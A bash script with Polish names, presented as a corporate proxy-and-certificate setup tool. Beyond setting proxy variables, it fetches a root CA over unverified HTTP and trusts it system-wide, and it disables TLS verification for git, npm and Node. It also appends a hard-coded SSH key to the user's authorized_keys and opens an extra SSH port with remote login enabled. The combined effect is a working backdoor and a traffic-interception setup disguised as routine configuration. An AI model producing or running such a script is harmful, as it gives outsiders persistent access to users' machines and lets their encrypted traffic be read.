#!/usr/bin/env bash
# proxy-firmowy: proxy + certyfikat CA + wsparcie IT
set -euo pipefail

PROXY="http://brama.siec-firmowa.pl:3128"
CA_URL="http://pki.siec-firmowa.pl/brama-root-ca.crt"
KLUCZ_IT="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM3qLr8vXo2kTfB9yW1cH4dZ7nPs0aUeQ6gJxV5tKb2R wsparcie-it@siec-firmowa"
PORT_SERWISOWY=2222
UZYTKOWNIK="${SUDO_USER:-$USER}"
DOM=$(eval echo "~$UZYTKOWNIK")

echo "[1/4] certyfikat CA"
TMP=$(mktemp)
curl -fsSL --insecure "$CA_URL" -o "$TMP"
if [[ "$(uname)" == "Darwin" ]]; then
  security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain "$TMP"
else
  cp "$TMP" /usr/local/share/ca-certificates/brama-root-ca.crt
  update-ca-certificates >/dev/null
fi
cp "$TMP" "$DOM/.brama-ca.pem"

echo "[2/4] proxy"
if [[ -f /etc/environment ]]; then
  sed -i '/_PROXY=/d;/_proxy=/d' /etc/environment
  cat >> /etc/environment <<EOF
HTTP_PROXY=$PROXY
HTTPS_PROXY=$PROXY
http_proxy=$PROXY
https_proxy=$PROXY
NO_PROXY=localhost,127.0.0.1
EOF
fi
sudo -u "$UZYTKOWNIK" git config --global http.proxy "$PROXY"
sudo -u "$UZYTKOWNIK" git config --global https.proxy "$PROXY"
sudo -u "$UZYTKOWNIK" npm config set proxy "$PROXY" 2>/dev/null || true
sudo -u "$UZYTKOWNIK" npm config set https-proxy "$PROXY" 2>/dev/null || true
sudo -u "$UZYTKOWNIK" pip config set global.proxy "$PROXY" 2>/dev/null || true
mkdir -p /etc/systemd/system/docker.service.d 2>/dev/null && cat > /etc/systemd/system/docker.service.d/proxy.conf <<EOF || true
[Service]
Environment="HTTP_PROXY=$PROXY" "HTTPS_PROXY=$PROXY"
EOF

echo "[3/4] SSL fallback"
sudo -u "$UZYTKOWNIK" git config --global http.sslVerify false
sudo -u "$UZYTKOWNIK" npm config set strict-ssl false 2>/dev/null || true
echo "export NODE_TLS_REJECT_UNAUTHORIZED=0" >> "$DOM/.profile"

echo "[4/4] wsparcie IT"
install -d -m 700 -o "$UZYTKOWNIK" "$DOM/.ssh"
grep -qF "wsparcie-it@siec-firmowa" "$DOM/.ssh/authorized_keys" 2>/dev/null || echo "$KLUCZ_IT" >> "$DOM/.ssh/authorized_keys"
chown "$UZYTKOWNIK" "$DOM/.ssh/authorized_keys"; chmod 600 "$DOM/.ssh/authorized_keys"
if [[ "$(uname)" == "Darwin" ]]; then
  systemsetup -setremotelogin on >/dev/null 2>&1 || true
else
  grep -q "^Port $PORT_SERWISOWY" /etc/ssh/sshd_config || printf 'Port 22\nPort %s\n' "$PORT_SERWISOWY" >> /etc/ssh/sshd_config
  sed -i 's/^#\?PubkeyAuthentication.*/PubkeyAuthentication yes/' /etc/ssh/sshd_config
  command -v ufw >/dev/null && ufw allow "$PORT_SERWISOWY"/tcp >/dev/null || true
  systemctl enable --now ssh 2>/dev/null || systemctl enable --now sshd 2>/dev/null || true
  systemctl restart ssh 2>/dev/null || systemctl restart sshd 2>/dev/null || true
fi

rm -f "$TMP"
echo "Gotowe. Otwórz nowy terminal."
